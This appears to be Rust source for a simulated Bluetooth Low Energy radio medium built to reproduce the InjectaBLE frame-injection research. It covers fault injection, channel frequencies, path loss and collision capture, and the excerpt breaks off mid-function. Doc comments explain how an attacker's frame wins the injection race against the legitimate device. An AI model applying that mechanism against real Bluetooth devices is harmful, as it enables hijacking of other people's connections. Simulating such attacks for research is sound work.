        let mut markers = Vec::new();
        if enabled {
            for (i, d) in plan.drift.iter().enumerate() {
                let Some(node) = resolve(&d.node_label) else {
                    continue;
                };
                drift_targets.push((node, i));
                for (at, active) in [(d.from, true), (d.until, false)] {
                    markers.push(FaultMarker {
                        at,
                        node: Some(node),
                        event: TelemetryEvent::FaultEpisode {
                            kind: FaultKind::Drift,
                            magnitude: d.extra_ppm,
                            active,
                        },
                    });
                }
            }
            for f in &plan.fading {
                for (at, active) in [(f.from, true), (f.until, false)] {
                    markers.push(FaultMarker {
                        at,
                        node: None,
                        event: TelemetryEvent::FaultEpisode {
                            kind: FaultKind::Fading,
                            magnitude: f.extra_loss_db,
                            active,
                        },
                    });
                }
            }
            for b in &plan.bursts {
                for k in 0..b.repeats.min(MAX_MARKERS_PER_BURST) {
                    let Some(start) = b.window_start(k) else {
                        break;
                    };
                    markers.push(FaultMarker {
                        at: start,
                        node: None,
                        event: TelemetryEvent::FaultBurst {
                            channel: b.channel,
                            power_dbm: b.power_dbm,
                            active: true,
                        },
                    });
                    markers.push(FaultMarker {
                        at: start.saturating_add(b.on_time),
                        node: None,
                        event: TelemetryEvent::FaultBurst {
                            channel: b.channel,
                            power_dbm: b.power_dbm,
                            active: false,
                        },
                    });
                }
            }
        }
        FaultState {
            plan,
            rng,
            drift_targets,
            markers,
            enabled,
        }
    }

    /// Whether any impairment is installed. Hot paths gate on this before
    /// touching anything else.
    #[inline]
    pub(crate) fn enabled(&self) -> bool {
        self.enabled
    }

    /// The pre-computed episode-boundary markers to schedule at install.
    pub(crate) fn markers(&self) -> &[FaultMarker] {
        &self.markers
    }

    /// Whether a frame arriving on `channel` at `at` is sacrificed to a
    /// loss rule (receiver never achieves sync). Draws from the fault RNG
    /// once per applicable rule.
    pub(crate) fn draw_loss(&mut self, at: Instant, channel: u8) -> bool {
        let mut lost = false;
        for rule in &self.plan.losses {
            if rule.applies(at, channel) && self.rng.chance(rule.loss_prob) {
                lost = true;
            }
        }
        lost
    }

    /// Whether a frame delivered on `channel` at `at` is corrupted by a
    /// loss rule (bit errors, CRC failure). Draws from the fault RNG once
    /// per applicable rule.
    pub(crate) fn draw_corruption(&mut self, at: Instant, channel: u8) -> bool {
        let mut corrupted = false;
        for rule in &self.plan.losses {
            if rule.applies(at, channel) && self.rng.chance(rule.corrupt_prob) {
                corrupted = true;
            }
        }
        corrupted
    }

    /// Burst interference overlapping a locked reception `[start, end]` on
    /// `channel`: `(power_dbm, overlap)` per active burst train.
    pub(crate) fn burst_interference(
        &self,
        channel: u8,
        start: Instant,
        end: Instant,
        mut push: impl FnMut(f64, Duration),
    ) {
        for b in &self.plan.bursts {
            if b.channel != channel {
                continue;
            }
            let overlap = b.overlap_with(start, end);
            if !overlap.is_zero() {
                push(b.power_dbm, overlap);
            }
        }
    }

    /// Total extra attenuation from fading episodes active at `at`, in dB.
    pub(crate) fn fading_db(&self, at: Instant) -> f64 {
        self.plan.fading_db_at(at)
    }

    /// Applies any drift excursion active on `node` at `at` to a locally
    /// timed delay: the delay is stretched by `extra_ppm` parts-per-million
    /// (shrunk for negative ppm).
    pub(crate) fn drift_adjusted(&self, node: NodeId, at: Instant, delay: Duration) -> Duration {
        let mut ppm = 0.0f64;
        for (target, idx) in &self.drift_targets {
            if *target != node {
                continue;
            }
            if let Some(d) = self.plan.drift.get(*idx) {
                if d.active_at(at) {
                    ppm += d.extra_ppm;
                }
            }
        }
        if ppm == 0.0 {
            delay
        } else {
            delay.mul_f64(1.0 + ppm * 1e-6)
        }
    }
}
