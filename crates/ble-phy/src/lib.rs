//! Simulated Bluetooth Low Energy physical layer.
//!
//! This crate replaces the 2.4 GHz radio hardware used by the InjectaBLE
//! paper (an nRF52840 dongle plus commercial devices) with a discrete-event
//! radio medium that preserves the two properties the attack depends on:
//!
//! 1. **Microsecond-accurate frame timing** — who starts transmitting first,
//!    how long a frame stays on the air (LE 1M: 8 µs per byte), and when a
//!    receiver's window is open. The injection race of the paper is decided
//!    entirely by these quantities.
//! 2. **Received-power physics** — log-distance path loss, wall attenuation,
//!    per-attempt multipath fading and the FM *capture effect* that lets the
//!    stronger of two colliding frames survive. The paper's sensitivity
//!    experiments (distance, wall) probe exactly this behaviour.
//!
//! The crate also provides the bit-level PHY algorithms of the
//! specification — data whitening and the CRC-24 — which the Link Layer and
//! the attack tooling build on.
//!
//! # Architecture
//!
//! A [`World`] is a central arena owning a set of nodes. Each node has a
//! radio (position, transmit power, sleep clock) and a protocol state
//! machine implementing [`RadioListener`]; the world stores it as a
//! `Box<dyn Node>` keyed by [`NodeId`]. Listeners receive [`RadioEvent`]s
//! (frame received, transmission complete, timer fired) and react through a
//! [`NodeCtx`] handle (transmit, tune the receiver, arm timers). Dispatch
//! uses plain `&mut` access — no shared ownership, no runtime borrow
//! checks — and a built world is [`Send`].
//!
//! # Example
//!
//! ```
//! use ble_phy::{Environment, World, NodeConfig, Position};
//! use simkit::SimRng;
//!
//! let env = Environment::indoor_default();
//! let world = World::new(env, SimRng::seed_from(1));
//! assert_eq!(world.now(), simkit::Instant::ZERO);
//! let _ = NodeConfig::new("sniffer", Position::new(1.0, 2.0));
//! ```

#![warn(missing_docs)]
#![forbid(unsafe_code)]
// Tests may panic freely; the denies below only harden non-test code.
#![cfg_attr(
    test,
    allow(
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::panic,
        clippy::cast_possible_truncation
    )
)]

mod access_address;
mod capture;
mod channel;
mod crc;
mod fault;
mod frame;
mod geometry;
mod medium;
mod pdu;
mod phy_mode;
mod propagation;
mod radio;
mod whitening;

pub use access_address::AccessAddress;
pub use capture::CaptureModel;
pub use channel::Channel;
pub use crc::{crc24, crc24_bitwise, crc24_bytes, ADVERTISING_CRC_INIT, CRC_LEN};
pub use frame::{RawFrame, ReceivedFrame, ACCESS_ADDRESS_LEN, PREAMBLE_LEN};
pub use geometry::{Position, Wall};
pub use medium::{DeliveryMode, Simulation, TxHandle, World};
pub use pdu::{Pdu, PduCapacityError, PDU_MAX_LEN};
pub use phy_mode::PhyMode;
pub use propagation::{Environment, CULL_HEADROOM_DB};
pub use radio::{
    AccessFilter, Node, NodeConfig, NodeCtx, NodeId, RadioEvent, RadioListener, TimerKey,
};
pub use whitening::{whiten_in_place, whiten_in_place_bitwise, whitened};
