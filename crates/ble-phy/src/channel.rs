//! BLE channel indices and frequency mapping.
//!
//! BLE defines 40 channels of 2 MHz width in the 2.4 GHz ISM band. Channels
//! 37, 38 and 39 are *advertising* channels (placed at 2402, 2426 and
//! 2480 MHz to dodge busy Wi-Fi channels); channels 0–36 are *data*
//! channels used by the connected mode's hopping sequence.

use std::fmt;

/// A BLE channel index (0–39).
///
/// # Example
///
/// ```
/// use ble_phy::Channel;
/// let ch = Channel::new(37).unwrap();
/// assert!(ch.is_advertising());
/// assert_eq!(ch.frequency_mhz(), 2402);
/// assert_eq!(Channel::new(0).unwrap().frequency_mhz(), 2404);
/// ```
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Channel(u8);

impl Channel {
    /// Number of BLE channels.
    pub const COUNT: u8 = 40;
    /// Number of data channels (indices 0–36).
    pub const DATA_COUNT: u8 = 37;
    /// The three advertising channels in scan order.
    pub const ADVERTISING: [Channel; 3] = [Channel(37), Channel(38), Channel(39)];

    /// Creates a channel from an index, returning `None` above 39.
    pub const fn new(index: u8) -> Option<Channel> {
        if index < Self::COUNT {
            Some(Channel(index))
        } else {
            None
        }
    }

    /// Creates a data channel (0–36), returning `None` otherwise.
    pub const fn data(index: u8) -> Option<Channel> {
        if index < Self::DATA_COUNT {
            Some(Channel(index))
        } else {
            None
        }
    }

    /// Creates a data channel from an index taken modulo 37.
    ///
    /// Infallible counterpart of [`Channel::data`] for call sites whose
    /// arithmetic already reduces modulo the data-channel count (the channel
    /// selection algorithms): the redundant modulo makes out-of-range inputs
    /// impossible by construction instead of a runtime error path.
    pub const fn data_wrapped(index: u8) -> Channel {
        Channel(index % Self::DATA_COUNT)
    }

    /// The advertising channel at scan position `pos % 3`.
    ///
    /// Infallible counterpart of indexing [`Channel::ADVERTISING`] for call
    /// sites that cycle a scan/advertise position: the modulo makes
    /// out-of-range positions impossible by construction.
    pub const fn advertising_wrapped(pos: usize) -> Channel {
        Self::ADVERTISING[pos % 3]
    }

    /// The channel index.
    pub const fn index(self) -> u8 {
        self.0
    }

    /// Whether this is one of the three advertising channels.
    pub const fn is_advertising(self) -> bool {
        self.0 >= 37
    }

    /// Whether this is a data channel.
    pub const fn is_data(self) -> bool {
        self.0 < 37
    }

    /// Centre frequency in MHz.
    ///
    /// Data channels 0–10 sit at 2404–2424 MHz, 11–36 at 2428–2478 MHz;
    /// the advertising channels fill the gaps at 2402, 2426 and 2480 MHz.
    pub const fn frequency_mhz(self) -> u16 {
        match self.0 {
            37 => 2402,
            38 => 2426,
            39 => 2480,
            // Lossless u8→u16 widening; `as` is unavoidable in a const fn.
            n if n <= 10 => 2404 + 2 * n as u16, // xtask-allow: R2 — n ≤ 10 here, u8→u16 widening is lossless and const fn forbids From
            n => 2428 + 2 * (n as u16 - 11), // xtask-allow: R2 — channel index is < 40 by construction, widening u8→u16 is lossless
        }
    }

    /// The whitening LFSR initial value for this channel
    /// (bit 6 set, bits 5..0 = channel index).
    pub const fn whitening_init(self) -> u8 {
        0x40 | self.0
    }
}

impl fmt::Debug for Channel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "ch{}", self.0)
    }
}

impl fmt::Display for Channel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self, f)
    }
}

impl TryFrom<u8> for Channel {
    type Error = InvalidChannelError;
    fn try_from(value: u8) -> Result<Self, Self::Error> {
        Channel::new(value).ok_or(InvalidChannelError(value))
    }
}

/// Error returned when a channel index exceeds 39.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct InvalidChannelError(pub u8);

impl fmt::Display for InvalidChannelError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid BLE channel index {}", self.0)
    }
}

impl std::error::Error for InvalidChannelError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn advertising_channels_have_spec_frequencies() {
        assert_eq!(Channel::new(37).unwrap().frequency_mhz(), 2402);
        assert_eq!(Channel::new(38).unwrap().frequency_mhz(), 2426);
        assert_eq!(Channel::new(39).unwrap().frequency_mhz(), 2480);
    }

    #[test]
    fn data_channel_frequencies_skip_advertising_slots() {
        assert_eq!(Channel::new(0).unwrap().frequency_mhz(), 2404);
        assert_eq!(Channel::new(10).unwrap().frequency_mhz(), 2424);
        assert_eq!(Channel::new(11).unwrap().frequency_mhz(), 2428);
        assert_eq!(Channel::new(36).unwrap().frequency_mhz(), 2478);
    }

    #[test]
    fn all_frequencies_are_unique_and_even() {
        let mut freqs: Vec<u16> = (0..40)
            .map(|i| Channel::new(i).unwrap().frequency_mhz())
            .collect();
        freqs.sort_unstable();
        freqs.dedup();
        assert_eq!(freqs.len(), 40);
        assert!(freqs
            .iter()
            .all(|f| f % 2 == 0 && (2402..=2480).contains(f)));
    }

    #[test]
    fn out_of_range_rejected() {
        assert!(Channel::new(40).is_none());
        assert!(Channel::data(37).is_none());
        assert!(Channel::try_from(41).is_err());
        assert_eq!(
            Channel::try_from(41).unwrap_err().to_string(),
            "invalid BLE channel index 41"
        );
    }

    #[test]
    fn data_wrapped_reduces_modulo_37() {
        assert_eq!(Channel::data_wrapped(0).index(), 0);
        assert_eq!(Channel::data_wrapped(36).index(), 36);
        assert_eq!(Channel::data_wrapped(37).index(), 0);
        assert_eq!(Channel::data_wrapped(255).index(), 255 % 37);
    }

    #[test]
    fn advertising_wrapped_cycles_scan_order() {
        assert_eq!(Channel::advertising_wrapped(0).index(), 37);
        assert_eq!(Channel::advertising_wrapped(1).index(), 38);
        assert_eq!(Channel::advertising_wrapped(2).index(), 39);
        assert_eq!(Channel::advertising_wrapped(3).index(), 37);
        // 2^64 ≡ 1 (mod 3), so usize::MAX = 2^64 − 1 ≡ 0 → channel 37.
        assert_eq!(Channel::advertising_wrapped(usize::MAX).index(), 37);
    }

    #[test]
    fn classification() {
        assert!(Channel::new(37).unwrap().is_advertising());
        assert!(!Channel::new(36).unwrap().is_advertising());
        assert!(Channel::new(0).unwrap().is_data());
    }

    #[test]
    fn whitening_init_sets_bit_six() {
        assert_eq!(Channel::new(0).unwrap().whitening_init(), 0x40);
        assert_eq!(Channel::new(37).unwrap().whitening_init(), 0x65);
    }
}
