//! Radio propagation model.
//!
//! The paper's distance and wall experiments (§VII-C) probe how the injected
//! signal's power at the victim Slave — relative to the legitimate Master's —
//! controls injection reliability. We model the standard indoor propagation
//! stack for 2.4 GHz:
//!
//! * **log-distance path loss**: `PL(d) = PL₀ + 10·n·log₁₀(d/1 m)` with
//!   `PL₀ ≈ 40 dB` (free-space loss at 1 m for 2.4 GHz) and exponent
//!   `n ≈ 1.8` for indoor line-of-sight (corridor/room waveguiding);
//! * **wall attenuation**: a fixed dB loss per crossed wall segment;
//! * **multipath fading**: a per-frame, per-link Gaussian (in dB) term —
//!   each injection attempt sees a different instantaneous channel, which is
//!   what lets a distant attacker eventually win a collision.

use simkit::{Duration, SimRng};

use crate::capture::CaptureModel;
use crate::geometry::{Position, Wall};

/// Speed of light in metres per second.
const SPEED_OF_LIGHT_M_PER_S: f64 = 299_792_458.0;

/// Headroom (dB) the reachability cull keeps above the sensitivity floor.
///
/// A receiver is culled only when the *mean* received power sits this far
/// below [`Environment::sensitivity_dbm`] — six standard deviations of the
/// default 5 dB multipath fading, so a frame the cull skips had no
/// realistic fading draw that could have reached the radio anyway. The
/// predicate is deliberately RNG-free: culling must never consume a fading
/// draw, or the scheduling strategy would leak into the random stream.
pub const CULL_HEADROOM_DB: f64 = 30.0;

/// The RF environment: propagation constants, obstacles and the collision
/// capture model.
///
/// # Example
///
/// ```
/// use ble_phy::{Environment, Position};
/// let env = Environment::indoor_default();
/// let near = env.mean_received_power_dbm(0.0, Position::new(0.0, 0.0), Position::new(1.0, 0.0));
/// let far = env.mean_received_power_dbm(0.0, Position::new(0.0, 0.0), Position::new(10.0, 0.0));
/// assert!(near > far, "power decays with distance");
/// ```
#[derive(Debug, Clone)]
pub struct Environment {
    /// Path loss at the 1 m reference distance, in dB.
    pub path_loss_at_1m_db: f64,
    /// Log-distance path-loss exponent.
    pub path_loss_exponent: f64,
    /// Standard deviation of per-frame multipath fading, in dB.
    pub fading_sigma_db: f64,
    /// Minimum power a radio can synchronise on, in dBm.
    pub sensitivity_dbm: f64,
    /// Wall segments in the floor plan.
    pub walls: Vec<Wall>,
    /// Capture-effect model deciding collision outcomes.
    pub capture: CaptureModel,
}

impl Environment {
    /// A realistic indoor environment matching the paper's experimental
    /// rooms: 2.4 GHz reference loss, mild line-of-sight exponent, moderate
    /// multipath, no walls.
    pub fn indoor_default() -> Self {
        Environment {
            path_loss_at_1m_db: 40.0,
            path_loss_exponent: 1.8,
            fading_sigma_db: 5.0,
            sensitivity_dbm: -94.0,
            walls: Vec::new(),
            capture: CaptureModel::default(),
        }
    }

    /// An idealised environment with no fading and deterministic capture,
    /// for exact unit tests of protocol machinery.
    pub fn ideal() -> Self {
        Environment {
            path_loss_at_1m_db: 40.0,
            path_loss_exponent: 2.0,
            fading_sigma_db: 0.0,
            sensitivity_dbm: -94.0,
            walls: Vec::new(),
            capture: CaptureModel::hard_threshold(0.0),
        }
    }

    /// A dense obstructed hall: the crowded-band regime of the exp6 sweep.
    /// Same 2.4 GHz reference loss as [`Environment::indoor_default`] but a
    /// heavily obstructed path-loss exponent (`n = 3.4`, bodies and
    /// furniture between links), which pulls the reachability-cull horizon
    /// from tens of kilometres down to a few hundred metres — far links in
    /// a stadium-scale world genuinely cannot hear each other.
    pub fn dense_hall() -> Self {
        Environment {
            path_loss_at_1m_db: 40.0,
            path_loss_exponent: 3.4,
            fading_sigma_db: 5.0,
            sensitivity_dbm: -94.0,
            walls: Vec::new(),
            capture: CaptureModel::default(),
        }
    }

    /// Adds a wall and returns the environment (builder style).
    pub fn with_wall(mut self, wall: Wall) -> Self {
        self.walls.push(wall);
        self
    }

    /// Total wall attenuation along the straight path `from → to`, in dB.
    pub fn wall_loss_db(&self, from: Position, to: Position) -> f64 {
        self.walls
            .iter()
            .filter(|w| w.blocks(from, to))
            .map(|w| w.attenuation_db)
            .sum()
    }

    /// Deterministic (mean) received power for a transmission, in dBm:
    /// transmit power minus path loss minus wall loss. Fading is *not*
    /// included — draw it per frame with [`Environment::fading_db`].
    pub fn mean_received_power_dbm(&self, tx_power_dbm: f64, from: Position, to: Position) -> f64 {
        let d = from.distance_to(to).max(0.1);
        let path_loss = self.path_loss_at_1m_db + 10.0 * self.path_loss_exponent * d.log10();
        tx_power_dbm - path_loss - self.wall_loss_db(from, to)
    }

    /// RNG-free reachability predicate for the delivery cull: whether a
    /// link whose *mean* received power is `mean_dbm` could plausibly be
    /// heard at all, keeping [`CULL_HEADROOM_DB`] of fading headroom above
    /// the sensitivity floor. Used identically by both delivery modes of
    /// the medium (sharded scheduling and the full-broadcast oracle), so
    /// culling never shifts an RNG stream or an event schedule between
    /// them.
    pub fn reachable_mean_dbm(&self, mean_dbm: f64) -> bool {
        mean_dbm + CULL_HEADROOM_DB >= self.sensitivity_dbm
    }

    /// Draws one per-frame fading realisation, in dB (zero-mean Gaussian).
    pub fn fading_db(&self, rng: &mut SimRng) -> f64 {
        if self.fading_sigma_db <= 0.0 {
            0.0
        } else {
            rng.normal(0.0, self.fading_sigma_db)
        }
    }

    /// Signal propagation delay over the straight-line distance.
    pub fn propagation_delay(&self, from: Position, to: Position) -> Duration {
        let seconds = from.distance_to(to) / SPEED_OF_LIGHT_M_PER_S;
        // Saturating float→int conversion; indoor distances give delays in
        // the tens of nanoseconds, far below u64 range.
        #[allow(clippy::cast_possible_truncation)]
        let nanos = (seconds * 1e9).round() as u64;
        Duration::from_nanos(nanos)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn path_loss_follows_log_distance_law() {
        let env = Environment::indoor_default();
        let tx = Position::ORIGIN;
        let p1 = env.mean_received_power_dbm(0.0, tx, Position::new(1.0, 0.0));
        let p10 = env.mean_received_power_dbm(0.0, tx, Position::new(10.0, 0.0));
        // One decade of distance costs 10·n dB.
        assert!((p1 - p10 - 10.0 * env.path_loss_exponent).abs() < 1e-9);
        assert!((p1 - -40.0).abs() < 1e-9);
    }

    #[test]
    fn distances_below_10cm_are_clamped() {
        let env = Environment::indoor_default();
        let p0 = env.mean_received_power_dbm(0.0, Position::ORIGIN, Position::ORIGIN);
        let p_close = env.mean_received_power_dbm(0.0, Position::ORIGIN, Position::new(0.05, 0.0));
        assert_eq!(p0, p_close);
        assert!(p0.is_finite());
    }

    #[test]
    fn walls_attenuate_only_crossing_paths() {
        let wall = Wall::new(Position::new(1.0, -5.0), Position::new(1.0, 5.0), 8.0);
        let env = Environment::indoor_default().with_wall(wall);
        let tx = Position::ORIGIN;
        let behind = Position::new(2.0, 0.0);
        let beside = Position::new(0.5, 3.0);
        let base = Environment::indoor_default();
        assert!(
            (base.mean_received_power_dbm(0.0, tx, behind)
                - env.mean_received_power_dbm(0.0, tx, behind)
                - 8.0)
                .abs()
                < 1e-9
        );
        assert_eq!(
            base.mean_received_power_dbm(0.0, tx, beside),
            env.mean_received_power_dbm(0.0, tx, beside)
        );
    }

    #[test]
    fn multiple_walls_stack() {
        let w1 = Wall::new(Position::new(1.0, -5.0), Position::new(1.0, 5.0), 8.0);
        let w2 = Wall::new(Position::new(2.0, -5.0), Position::new(2.0, 5.0), 6.0);
        let env = Environment::indoor_default().with_wall(w1).with_wall(w2);
        assert_eq!(
            env.wall_loss_db(Position::ORIGIN, Position::new(3.0, 0.0)),
            14.0
        );
    }

    #[test]
    fn fading_is_zero_mean_and_disabled_when_sigma_zero() {
        let mut env = Environment::indoor_default();
        let mut rng = SimRng::seed_from(5);
        let n = 10_000;
        let mean: f64 = (0..n).map(|_| env.fading_db(&mut rng)).sum::<f64>() / n as f64;
        assert!(mean.abs() < 0.2, "mean fading {mean}");
        env.fading_sigma_db = 0.0;
        assert_eq!(env.fading_db(&mut rng), 0.0);
    }

    #[test]
    fn reachability_cull_keeps_fading_headroom() {
        let env = Environment::indoor_default();
        // Right at the floor: reachable (fading could save it).
        assert!(env.reachable_mean_dbm(env.sensitivity_dbm));
        // Within the headroom below the floor: still reachable.
        assert!(env.reachable_mean_dbm(env.sensitivity_dbm - CULL_HEADROOM_DB));
        // Beyond the headroom: culled.
        assert!(!env.reachable_mean_dbm(env.sensitivity_dbm - CULL_HEADROOM_DB - 0.001));
    }

    #[test]
    fn indoor_links_are_never_culled_at_experiment_scales() {
        // The paper's rigs put nodes metres apart; the cull must be
        // unreachable there so pre-sharding experiments stay byte-identical.
        let env = Environment::indoor_default();
        let mean = env.mean_received_power_dbm(0.0, Position::ORIGIN, Position::new(1_000.0, 0.0));
        assert!(env.reachable_mean_dbm(mean), "1 km indoors still reachable");
    }

    #[test]
    fn dense_hall_culls_far_links_but_not_near_ones() {
        let env = Environment::dense_hall();
        let near = env.mean_received_power_dbm(0.0, Position::ORIGIN, Position::new(50.0, 0.0));
        let far = env.mean_received_power_dbm(0.0, Position::ORIGIN, Position::new(500.0, 0.0));
        assert!(env.reachable_mean_dbm(near), "50 m in the hall is audible");
        assert!(!env.reachable_mean_dbm(far), "500 m in the hall is culled");
    }

    #[test]
    fn propagation_delay_scales_with_distance() {
        let env = Environment::indoor_default();
        let d = env.propagation_delay(Position::ORIGIN, Position::new(300.0, 0.0));
        // 300 m ≈ 1 µs.
        assert!((d.as_nanos() as i64 - 1_000).abs() <= 2);
        assert_eq!(
            env.propagation_delay(Position::ORIGIN, Position::ORIGIN),
            Duration::ZERO
        );
    }
}
