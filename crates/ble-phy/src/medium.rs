//! The shared radio medium and simulation driver.
//!
//! [`World`] is a central arena: it owns the event queue, the node radios,
//! the set of in-flight transmissions *and every protocol state machine*
//! (as `Box<dyn Node>` keyed by [`NodeId`]). Frame delivery follows
//! first-lock-wins radio semantics: a receiver synchronises on the first
//! frame whose preamble it hears (passing its access-address filter), and
//! any frame overlapping the locked reception contributes interference. At
//! the end of the locked frame the [`crate::CaptureModel`] decides — from
//! the signal-to-interference ratio and the overlap duration — whether the
//! frame survived or was corrupted.
//!
//! This is precisely the mechanism the InjectaBLE race exploits: the
//! attacker's frame, transmitted at the start of the widened receive
//! window, arrives *first*, so the victim locks onto it; the legitimate
//! Master frame then only matters as interference.

use std::collections::BTreeMap;

use ble_invariants::invariant;
use ble_telemetry::{
    DeliveryTracker, FaultKind, SpanId, SpanKind, Telemetry, TelemetryEvent, TelemetryRecord,
    TelemetrySink,
};
use simkit::{Duration, EventQueue, FaultPlan, Instant, SimRng, Trace};

use crate::channel::Channel;
use crate::fault::FaultState;
use crate::frame::{RawFrame, ReceivedFrame};
use crate::geometry::Position;
use crate::phy_mode::PhyMode;
use crate::propagation::Environment;
use crate::radio::{
    AccessFilter, Node, NodeConfig, NodeCtx, NodeId, RadioEvent, TimerHandle, TimerKey,
};

/// Frame-delivery scheduling strategy of the medium.
///
/// Both modes produce **event-for-event identical** simulations — the
/// sharded fast path only skips scheduling `RxStart` edges that the
/// broadcast path would have discarded without any state or RNG effect
/// (wrong channel, not listening, or mean power below the reachability
/// cull). The equivalence is pinned by the `sharding_equivalence`
/// integration tests, which run the same seeded world under both modes and
/// compare traces.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum DeliveryMode {
    /// Schedule `RxStart` only at nodes currently listening on the
    /// transmission's channel (per-channel listener index) whose mean link
    /// budget clears the reachability cull. Receivers that open *after*
    /// the frame left the antenna but *before* its leading edge arrives
    /// are caught by a pending-arrival scan in `start_rx`. The default.
    #[default]
    Sharded,
    /// Schedule `RxStart` at every other node for every frame, as the
    /// medium originally did — O(nodes) per transmission. Retained as the
    /// oracle for the sharded/broadcast equivalence tests and for
    /// apples-to-apples benchmarks.
    FullBroadcast,
}

/// Handle describing a transmission that was just started.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TxHandle {
    /// When the first preamble bit left the antenna.
    pub start: Instant,
    /// When the last bit will leave the antenna.
    pub end: Instant,
    pub(crate) id: u64,
}

#[derive(Debug)]
enum SimEvent {
    TxEnd {
        node: NodeId,
    },
    RxStart {
        node: NodeId,
        tx_id: u64,
    },
    RxEnd {
        node: NodeId,
        tx_id: u64,
    },
    LateSync {
        node: NodeId,
        tx_id: u64,
    },
    Timer {
        node: NodeId,
        key: TimerKey,
    },
    /// Pre-computed fault-episode boundary: index into the installed
    /// [`FaultState`]'s marker table (telemetry only — impairments are
    /// evaluated arithmetically per frame, not from these events).
    Fault {
        marker: usize,
    },
}

#[derive(Debug, Clone, Copy)]
struct Interference {
    power_dbm: f64,
    overlap: Duration,
}

/// Interferers observed during one locked reception. Almost every collision
/// involves one or two frames (the injection race is exactly two), so the
/// first few entries live inline in the lock and the common case never
/// touches the heap; pathological pile-ups spill into a `Vec` rather than
/// being dropped.
const INLINE_INTERFERERS: usize = 4;

#[derive(Debug, Clone)]
struct InterferenceBuf {
    /// Occupied prefix of `inline`.
    len: usize,
    inline: [Interference; INLINE_INTERFERERS],
    /// Overflow beyond the inline capacity; empty in steady state.
    spill: Vec<Interference>,
}

impl InterferenceBuf {
    const fn new() -> Self {
        InterferenceBuf {
            len: 0,
            inline: [Interference {
                power_dbm: 0.0,
                overlap: Duration::ZERO,
            }; INLINE_INTERFERERS],
            spill: Vec::new(),
        }
    }

    /// Appends an interferer. Returns whether the entry spilled past the
    /// inline capacity onto the heap — callers emit
    /// [`TelemetryEvent::InterferenceSpill`] so pathological pile-ups are
    /// observable.
    fn push(&mut self, entry: Interference) -> bool {
        if let Some(slot) = self.inline.get_mut(self.len) {
            *slot = entry;
            self.len += 1;
            false
        } else {
            self.spill.push(entry);
            true
        }
    }

    /// Entries in push order (inline prefix, then spill).
    fn iter(&self) -> impl Iterator<Item = &Interference> {
        self.inline.iter().take(self.len).chain(self.spill.iter())
    }

    fn count(&self) -> usize {
        self.len + self.spill.len()
    }
}

#[derive(Debug)]
struct RxLock {
    tx_id: u64,
    arrival: Instant,
    end: Instant,
    signal_dbm: f64,
    interference: InterferenceBuf,
}

#[derive(Debug)]
enum RadioState {
    Idle,
    Rx {
        channel: Channel,
        filter: AccessFilter,
        crc_init: u32,
        lock: Option<RxLock>,
    },
    Tx {
        until: Instant,
    },
}

struct NodeState {
    config: NodeConfig,
    rng: SimRng,
    radio: RadioState,
    /// The open `ChannelAirtime` span for this node's in-flight
    /// transmission ([`SpanId::DISABLED`] when idle or telemetry is off).
    tx_span: SpanId,
    /// Transmissions started by this node ([`NodeCtx::tx_start_count`]).
    tx_starts: u64,
}

/// Receivers that already have an `RxStart` edge scheduled for an
/// in-flight transmission. A duplicate edge would make a receiver treat
/// its own locked frame as interference (an extra RNG draw and a phantom
/// collision), so sharded delivery dedups the pending-arrival scan in
/// `start_rx` against this set. The first 128 node ids live in an inline
/// bitmask; wider worlds spill into extra heap words (the alloc-budget
/// scenarios stay single-digit, so the steady-state path never allocates).
#[derive(Debug, Default)]
struct ScheduledSet {
    low: u128,
    high: Vec<u64>,
}

impl ScheduledSet {
    fn insert(&mut self, node: NodeId) {
        if let Some(bit) = node.0.checked_sub(128) {
            let word = bit / 64;
            if self.high.len() <= word {
                self.high.resize(word + 1, 0);
            }
            if let Some(w) = self.high.get_mut(word) {
                *w |= 1u64 << (bit % 64);
            }
        } else {
            self.low |= 1u128 << node.0;
        }
    }

    fn contains(&self, node: NodeId) -> bool {
        match node.0.checked_sub(128) {
            Some(bit) => self
                .high
                .get(bit / 64)
                .is_some_and(|w| w & (1u64 << (bit % 64)) != 0),
            None => self.low & (1u128 << node.0) != 0,
        }
    }
}

struct ActiveTx {
    from: NodeId,
    channel: Channel,
    phy: PhyMode,
    frame: RawFrame,
    start: Instant,
    end: Instant,
    /// Receivers with a scheduled `RxStart` for this frame (sharded
    /// delivery only; stays empty under [`DeliveryMode::FullBroadcast`],
    /// where every node gets exactly one edge by construction).
    scheduled: ScheduledSet,
}

/// Memoised per-pair mean received power, keyed by `(from, to)` node index
/// in a flat table. The mean is a pure function of positions, transmit
/// power and walls, all of which change rarely (experiments move nodes
/// between trials, not per frame), while the delivery path recomputes it
/// per scheduled edge, per lock attempt and per interference candidate —
/// in dense worlds the same `log10` shows up millions of times.
///
/// Invalidation is by generation counter: [`World::set_node_position`] and
/// [`World::env_mut`] bump the generation, instantly staling every entry
/// without touching the table. The table is (re)sized lazily on the first
/// lookup after a node-count change.
struct PairCache {
    generation: u64,
    nodes: usize,
    /// `(generation, mean_dbm)` at `from * nodes + to`.
    entries: Vec<(u64, f64)>,
}

impl PairCache {
    const fn new() -> Self {
        PairCache {
            generation: 1,
            nodes: 0,
            entries: Vec::new(),
        }
    }

    /// Stales every cached mean (a position or the environment changed).
    fn invalidate(&mut self) {
        self.generation += 1;
    }

    /// Cached mean received power for `from → to`, computing and memoising
    /// on miss. Exactly [`Environment::mean_received_power_dbm`] —
    /// memoisation can only skip recomputation, never change a value, so
    /// cached and uncached worlds are bit-identical.
    fn mean_dbm(
        &mut self,
        env: &Environment,
        nodes: &[NodeState],
        from: NodeId,
        to: NodeId,
    ) -> f64 {
        if self.nodes != nodes.len() {
            self.nodes = nodes.len();
            self.entries.clear();
            self.entries.resize(self.nodes * self.nodes, (0, 0.0));
        }
        let idx = from.0 * self.nodes + to.0;
        if let Some(&(generation, mean)) = self.entries.get(idx) {
            if generation == self.generation {
                return mean;
            }
        }
